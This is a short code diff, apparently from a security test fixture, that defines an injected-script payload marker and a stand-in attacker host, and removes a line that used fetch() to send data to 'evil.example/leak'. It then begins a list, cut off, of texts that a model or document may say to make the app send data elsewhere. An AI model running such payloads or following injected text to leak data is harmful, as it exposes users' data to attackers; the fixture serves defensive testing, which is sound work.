@@ -1,7 +1,7 @@
-const EVIL = 'evil.example/leak'
+const EVIL = 'x.test/a'
 const HTTPS = `https://${EVIL}`
-/** Runs where a payload got a script to run: it leaves a mark, calls the shell, and sends what it finds. */
-const SCRIPT = `window.owned=1;plateau.storage();fetch('${HTTPS}')`
+/** Runs where a payload got a script to run: it leaves a mark and calls the shell. */
+const SCRIPT = 'owned=1;plateau.storage()'
 
 /** What a model, or a document, may say to make the window ask somebody else for something: name and text. */
 export const EXFILTRATION: readonly (readonly [name: string, text: string])[] = [
